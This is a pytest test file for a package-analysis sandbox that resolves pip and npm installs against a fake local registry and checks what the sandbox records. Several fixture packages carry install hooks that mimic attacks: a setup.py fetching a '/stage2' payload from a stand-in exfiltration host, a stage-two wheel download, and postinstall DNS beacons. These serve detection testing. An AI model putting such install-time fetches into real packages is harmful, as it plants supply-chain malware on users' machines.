"""End to end: pip and npm inside the sandbox resolve against the registry service of the fake network.

Every package here is built from source in tmp_path; the online half talks to a fake registry on
loopback (tests never reach the network). Each test has its own registry cache.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from fake_upstream import FakeRegistry

from builders import EXFIL_HOST, EXFIL_PORT, make_npm, make_sdist, make_wheel
from osptrack.errors import BadInput
from osptrack.registry.cache import ContentCache
from osptrack.registry.service import RegistryConfig
from osptrack.run import AnalyzeOptions, RunOutcome, analyze
from osptrack.target import parse_target

pytestmark = pytest.mark.sandbox

SHARED_REQUESTS = Path(__file__).resolve().parents[2] / ".." / "shared" / "corpus" / "pypi" / "requests"


def run(
    tmp_path: Path, eco: str, target: str, deps: tuple[Path, ...] = (), **kw: Any
) -> tuple[RunOutcome, dict, dict]:
    config = kw.pop("registry", None) or RegistryConfig(cache_root=tmp_path / "cache")
    options = AnalyzeOptions(timeout_s=120, deps_dirs=deps, registry=config, **kw)
    out = tmp_path / f"run-{len(list(tmp_path.glob('run-*')))}"
    outcome = analyze(parse_target(eco, target), options, out)
    return outcome, json.loads((out / "run.json").read_text()), json.loads((out / "result.json").read_text())


def closure(run_info: dict) -> set[tuple[str, str, str]]:
    return {(c["name"], c["version"], c["sha256"]) for c in run_info["registry"]["closure"]}


def sources(run_info: dict) -> dict[str, str]:
    return {c["name"]: c["source"] for c in run_info["registry"]["closure"]}


def dns_names(result: dict, phase: str) -> set[str]:
    return {q["Hostname"] for d in result["Analysis"][phase]["DNS"] or [] for q in d["Queries"]}


def stdout(result: dict, phase: str) -> str:
    return base64.b64decode(result["Analysis"][phase]["Stdout"]).decode(errors="replace")


def pyproject(*requires: str) -> str:
    quoted = ", ".join(json.dumps(r) for r in requires)
    return f'[build-system]\nrequires = [{quoted}]\nbuild-backend = "setuptools.build_meta"\n'


# ---------------------------------------------------------------------------------------- PyPI


@pytest.mark.skipif(
    not SHARED_REQUESTS.is_dir(), reason="needs ../shared/corpus/pypi/requests (the shared corpus)"
)
def test_setup_py_that_imports_requests_gets_it_from_the_registry(tmp_path: Path) -> None:
    setup_py = f"""
        import requests
        try:
            requests.get("http://{EXFIL_HOST}:{EXFIL_PORT}/stage2", timeout=3)
        except Exception as exc:
            print("osptrack-test:", exc)
        from setuptools import setup
        setup(name="osptrack-needs-requests", version="1.0", py_modules=["needs_requests"])
    """
    sdist = make_sdist(tmp_path, "osptrack-needs-requests", "1.0", setup_py,
                       {"needs_requests.py": "X = 1\n", "pyproject.toml": pyproject("setuptools", "requests")})  # fmt: skip
    outcome, info, result = run(tmp_path, "pypi", str(sdist), (SHARED_REQUESTS,))
    assert outcome.statuses["install"] == "completed", info["phases"]["install"]
    assert EXFIL_HOST in dns_names(result, "install")
    assert any(EXFIL_HOST in c for c in outcome.notable["connections"]), outcome.notable
    src = sources(info)
    # from the deps dir, or the persona's pinned wheels in the cache (whichever is newer)
    assert src["requests"] in ("deps-dir", "cache") and src["urllib3"] in ("deps-dir", "cache")
    assert src["setuptools"] == "cache"  # the pinned build backends, put there at setup


def helper_wheel(dest: Path) -> Path:
    dest.mkdir(exist_ok=True)
    code = (  # .example names get NXDOMAIN: the query is the evidence
        "import socket\ndef mark():\n    try:\n        socket.getaddrinfo('helper-ran.osptrack-test.example', 80)\n"
        "    except OSError:\n        pass\n"
    )
    return make_wheel(dest, "osptrack-build-helper", "1.0", {"osptrack_build_helper.py": code})


def helper_sdist(dest: Path) -> Path:
    setup_py = """
        import urllib.request
        import osptrack_build_helper
        osptrack_build_helper.mark()
        try:  # the package's own download from a registry host: not pip's, so notable
            urllib.request.urlopen("http://files.pythonhosted.org/packages/stage2.whl", timeout=3)
        except Exception as exc:
            print("osptrack-test:", exc)
        from setuptools import setup
        setup(name="osptrack-uses-helper", version="1.0", py_modules=["uses_helper"])
    """
    return make_sdist(dest, "osptrack-uses-helper", "1.0", setup_py,
                      {"uses_helper.py": "", "pyproject.toml": pyproject("setuptools", "osptrack-build-helper==1.0")})  # fmt: skip


def test_build_requirement_only_the_registry_has(tmp_path: Path) -> None:
    deps = tmp_path / "deps"
    helper_wheel(deps)
    outcome, info, result = run(tmp_path, "pypi", str(helper_sdist(tmp_path)), (deps,))
    assert outcome.statuses["install"] == "completed", info["phases"]["install"]
    assert "helper-ran.osptrack-test.example" in dns_names(result, "install")
    assert sources(info)["osptrack-build-helper"] == "deps-dir"
    assert "files.pythonhosted.org" in outcome.notable["dns"]  # the package's, not pip's
    assert "phase_note" not in info["phases"]["install"]


def test_missing_build_requirement_is_a_404_named_in_run_json_and_a_phase_note(tmp_path: Path) -> None:
    outcome, info, result = run(tmp_path, "pypi", str(helper_sdist(tmp_path)))
    assert outcome.statuses["install"] == "error_analysis"
    assert info["registry"]["missing"] == ["osptrack-build-helper"]
    note = info["phases"]["install"]["phase_note"]
    assert "osptrack-build-helper" in note and "\n" not in note
    assert outcome.phase_notes["install"] == note
    assert "helper-ran.osptrack-test.example" not in dns_names(result, "install")


# ---------------------------------------------------------------------------------------- npm


def test_postinstall_that_needs_an_npm_dependency(tmp_path: Path) -> None:
    deps = tmp_path / "deps"
    deps.mkdir()
    make_npm(deps, "osptrack-dep", "1.0.0",
             {"index.js": "exports.mark = () => require('dns').lookup('dep-ran.osptrack-test.example', () => {});\n"})  # fmt: skip
    top = make_npm(tmp_path, "osptrack-post", "1.0.0", {"post.js": "require('osptrack-dep').mark();\n", "index.js": ""},
                   scripts={"postinstall": "node post.js"}, extra={"dependencies": {"osptrack-dep": "^1.0.0"}})  # fmt: skip
    outcome, info, result = run(tmp_path, "npm", str(top), (deps,))
    assert outcome.statuses["install"] == "completed", info["phases"]["install"]
    assert "dep-ran.osptrack-test.example" in dns_names(result, "install")
    assert "dep-ran.osptrack-test.example" in outcome.notable["dns"]  # the attacker indicator
    assert not outcome.phase_notes and "phase_note" not in info["phases"]["install"]
    assert sources(info) == {"osptrack-dep": "deps-dir"}


def test_two_versions_of_one_npm_dependency_in_one_closure(tmp_path: Path) -> None:
    deps = tmp_path / "deps"
    deps.mkdir()
    for v in ("1.0.0", "2.0.0"):
        make_npm(deps, "osptrack-b", v, {"index.js": f"exports.v = '{v}';\n"})
    make_npm(deps, "osptrack-c", "1.0.0", {"index.js": "exports.bv = require('osptrack-b').v;\n"},
             extra={"dependencies": {"osptrack-b": "2.0.0"}})  # fmt: skip
    post = "console.log('two-versions:' + require('osptrack-b').v + '/' + require('osptrack-c').bv);\n"
    top = make_npm(tmp_path, "osptrack-two", "1.0.0", {"post.js": post, "index.js": ""}, scripts={"postinstall": "node post.js"},
                   extra={"dependencies": {"osptrack-b": "^1.0.0", "osptrack-c": "1.0.0"}})  # fmt: skip
    outcome, info, result = run(tmp_path, "npm", str(top), (deps,))
    assert outcome.statuses["install"] == "completed", info["phases"]["install"]
    assert "two-versions:1.0.0/2.0.0" in stdout(result, "install")
    assert {(n, v) for n, v, _ in closure(info)} == {
        ("osptrack-b", "1.0.0"),
        ("osptrack-b", "2.0.0"),
        ("osptrack-c", "1.0.0"),
    }


def test_missing_npm_dependency_is_recorded_with_a_phase_note(tmp_path: Path) -> None:
    top = make_npm(
        tmp_path,
        "osptrack-lonely",
        "1.0.0",
        {"index.js": ""},
        extra={"dependencies": {"osptrack-absent": "^1.0.0"}},
    )
    outcome, info, _ = run(tmp_path, "npm", str(top))
    assert outcome.statuses["install"] == "error_analysis"
    assert info["registry"]["missing"] == ["osptrack-absent"]
    assert "osptrack-absent" in info["phases"]["install"]["phase_note"]


# ---------------------------------------------------------------------------------------- online vs offline


@pytest.fixture()
def upstream(tmp_path: Path):  # type: ignore[no-untyped-def]
    src = tmp_path / "upstream-src"
    src.mkdir()
    reg = FakeRegistry()
    reg.pypi["osptrack-leaf"] = [make_wheel(src, "osptrack-leaf", "2.0", {"osptrack_leaf.py": "V = 2\n"})]
    reg.pypi["osptrack-top"] = [
        make_wheel(
            src,
            "osptrack-top",
            "1.0",
            {"osptrack_top.py": "import osptrack_leaf\n"},
            requires=("osptrack-leaf>=2",),
        )
    ]
    leaf = make_npm(src, "osptrack-nleaf", "3.0.0", {"index.js": "exports.v = 3;\n"})
    reg.npm["osptrack-nleaf"] = [("3.0.0", {"name": "osptrack-nleaf", "version": "3.0.0"}, leaf)]
    manifest = {"name": "osptrack-ntop", "version": "1.0.0", "dependencies": {"osptrack-nleaf": "^3.0.0"}}
    top = make_npm(
        src,
        "osptrack-ntop",
        "1.0.0",
        {"index.js": "require('osptrack-nleaf');\n"},
        extra={"dependencies": manifest["dependencies"]},
    )
    reg.npm["osptrack-ntop"] = [("1.0.0", manifest, top)]
    reg.start()
    yield reg
    reg.stop()


@pytest.mark.parametrize("eco,target", [("pypi", "osptrack-top==1.0"), ("npm", "osptrack-ntop@1.0.0")])
def test_offline_and_online_runs_resolve_the_same_closure(
    tmp_path: Path, upstream: FakeRegistry, eco: str, target: str
) -> None:
    config = RegistryConfig(cache_root=tmp_path / "cache", upstream=upstream.upstream())
    online, info_on, _ = run(tmp_path, eco, target, online=True, registry=config)
    assert online.statuses == {"install": "completed", "import": "completed"}, info_on["phases"]
    assert {c["source"] for c in info_on["registry"]["closure"]} == {"upstream"}
    assert info_on["registry"]["errors"] == []
    hits = len(upstream.hits)
    offline, info_off, _ = run(tmp_path, eco, target, registry=config)
    assert offline.statuses == {"install": "completed", "import": "completed"}, info_off["phases"]
    assert len(upstream.hits) == hits  # offline never asked the registry
    assert {c["source"] for c in info_off["registry"]["closure"]} == {"cache"}
    assert closure(info_on) == closure(info_off) and len(closure(info_on)) == 2


@pytest.mark.parametrize(
    "eco,archive", [("pypi", "osptrack_top-1.0-py3-none-any.whl"), ("npm", "osptrack-ntop-1.0.0.tgz")]
)
def test_deps_dir_cache_and_upstream_give_the_same_closure_differing_only_in_source(
    tmp_path: Path, upstream: FakeRegistry, eco: str, archive: str
) -> None:
    """The same local archive, its dependencies from the real registry (a fake on loopback), from
    the cache that run filled, and offline from a --deps-dir holding the same files: run.json's
    closure is the same list of (name, version, sha256, filename); only `source` differs."""
    src = tmp_path / "upstream-src"
    target = tmp_path / archive
    (src / archive).rename(target)  # the package itself is given, not served
    config = RegistryConfig(cache_root=tmp_path / "cache", upstream=upstream.upstream())
    seen: dict[str, list[dict]] = {}
    for how, deps, online, cfg in (
        ("upstream", (), True, config),
        ("cache", (), False, config),
        ("deps-dir", (src,), False, RegistryConfig(cache_root=tmp_path / "other-cache")),
    ):
        outcome, info, _ = run(tmp_path, eco, str(target), deps, online=online, registry=cfg)
        assert outcome.statuses == {"install": "completed", "import": "completed"}, (how, info["phases"])
        assert info["registry"]["errors"] == [] and info["registry"]["missing"] == []
        seen[how] = info["registry"]["closure"]
    key = lambda c: (c["name"], c["version"], c["sha256"], c["filename"])  # noqa: E731
    leaf = "osptrack-leaf" if eco == "pypi" else "osptrack-nleaf"
    for how, entries in seen.items():
        assert [c for c in entries if c["name"] == leaf], (how, entries)
        assert {c["source"] for c in entries} == {how}, (how, entries)
        assert sorted(map(key, entries)) == sorted(map(key, seen["upstream"])), how


@pytest.mark.parametrize("mode", ["badhash", "truncated-page"])
def test_bad_registry_answer_online_is_one_line_in_run_json_and_nothing_is_cached(
    tmp_path: Path, upstream: FakeRegistry, mode: str
) -> None:
    """npm asks for the dependency; the (fake) real registry answers a tarball that fails its
    sha512, or a packument cut short: run.json `registry.errors` has one line, the cache nothing."""
    upstream.mode = mode
    target = tmp_path / "osptrack-ntop-1.0.0.tgz"
    (tmp_path / "upstream-src" / target.name).rename(target)
    config = RegistryConfig(cache_root=tmp_path / "cache", upstream=upstream.upstream())
    outcome, info, _ = run(tmp_path, "npm", str(target), online=True, registry=config, phases=("install",))
    assert outcome.statuses["install"] == "error_analysis"
    errors = info["registry"]["errors"]
    assert len(errors) == 1 and "\n" not in errors[0], errors
    assert ("does not match" if mode == "badhash" else "truncated") in errors[0], errors
    assert "osptrack-nleaf" in info["registry"]["missing"]
    assert "phase_note" in info["phases"]["install"]
    assert [e for e in ContentCache(tmp_path / "cache").entries() if e.ecosystem == "npm"] == []


@pytest.mark.parametrize("eco,target,answer", [
    ("pypi", "osptrack-nosuch==1.0", "no project named osptrack-nosuch (404 Not Found)"),
    ("pypi", "osptrack-top==7.0", "osptrack-top has no release 7.0 (latest is 1.0)"),
    ("npm", "osptrack-nosuch@1.0.0", "no package named osptrack-nosuch (404 Not Found)"),
])  # fmt: skip
def test_online_unknown_package_is_bad_input_and_nothing_is_written(
    tmp_path: Path, upstream: FakeRegistry, eco: str, target: str, answer: str
) -> None:
    config = RegistryConfig(cache_root=tmp_path / "cache", upstream=upstream.upstream())
    options = AnalyzeOptions(online=True, registry=config)
    with pytest.raises(BadInput) as err:
        analyze(parse_target(eco, target), options, tmp_path / "out")
    assert answer in str(err.value) and "\n" not in str(err.value)
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------------------------------- build backends

BACKENDS = {
    "hatchling": (
        'requires = ["hatchling"]\nbuild-backend = "hatchling.build"',
        "[project]\nname = '{n}'\nversion = '1.0'\n",
    ),
    "flit-core": (
        'requires = ["flit_core>=3.2,<4"]\nbuild-backend = "flit_core.buildapi"',
        "[project]\nname = '{n}'\nversion = '1.0'\ndescription = 'x'\n",
    ),
    "poetry-core": (
        'requires = ["poetry-core>=1.0.0"]\nbuild-backend = "poetry.core.masonry.api"',
        "[tool.poetry]\nname = '{n}'\nversion = '1.0'\ndescription = 'x'\nauthors = ['a <a@example.com>']\n",
    ),
    "pdm-backend": (
        'requires = ["pdm-backend"]\nbuild-backend = "pdm.backend"',
        "[project]\nname = '{n}'\nversion = '1.0'\n",
    ),
}


@pytest.mark.parametrize("backend", sorted(BACKENDS))
def test_sdist_builds_offline_with_each_pinned_backend(tmp_path: Path, backend: str) -> None:
    name = f"osptrack-{backend.split('-')[0]}-pkg"
    module = name.replace("-", "_")
    build, project = BACKENDS[backend]
    files = {
        f"{module}/__init__.py": "V = 1\n",
        "pyproject.toml": f"[build-system]\n{build}\n{project.format(n=name)}",
    }
    sdist = make_sdist(tmp_path, name, "1.0", "", files)
    outcome, info, _ = run(tmp_path, "pypi", str(sdist))
    assert outcome.statuses["install"] == "completed", (info["phases"]["install"], info["registry"])
    assert sources(info)[backend] == "cache"
    assert info["registry"]["missing"] == []
